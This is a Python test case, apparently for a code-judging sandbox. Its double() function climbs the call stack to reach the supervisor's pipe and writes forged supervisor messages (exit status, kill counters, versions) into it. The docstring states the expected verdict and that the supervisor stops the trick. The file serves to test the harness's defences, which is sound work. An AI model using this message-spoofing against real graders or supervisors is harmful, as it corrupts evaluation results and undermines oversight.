"""
verdict = ["PE"]
points_at_most = 4
wall_s = 15
exploits = "Writes the supervisor's own messages (the child has ended, counters, ready) into its pipe of answers."
stops = "The supervisor wraps whatever a child writes as that child's data."
"""

import json
import os
import sys
import struct


def double(x):
    frame = sys._getframe()
    while "server" not in frame.f_locals:
        frame = frame.f_back
    pipe = frame.f_locals["server"].pipe
    for kind in range(1, 9):
        for number in range(4):
            payload = json.dumps(
                {"exit_status": 0, "signal": None, "oom_kills": 1, "versions": {"python": "3"}}
            ).encode()
            message = struct.pack(">BII", kind, number, len(payload)) + payload
            os.write(pipe.data_out, message)
            os.write(1, message)
    return 2 * x
